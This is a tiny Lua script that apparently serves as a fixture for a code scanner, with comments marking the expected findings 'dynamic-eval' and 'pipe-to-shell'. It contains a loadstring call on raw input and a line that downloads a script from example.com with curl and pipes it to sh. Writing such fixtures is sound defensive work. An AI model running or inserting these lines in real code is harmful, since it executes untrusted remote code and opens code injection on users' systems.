#!/usr/bin/lua5.4
local f = loadstring(arg[1])  -- expect: dynamic-eval
os.execute("curl -s https://example.com/x | sh")  -- expect: pipe-to-shell
print("ok")
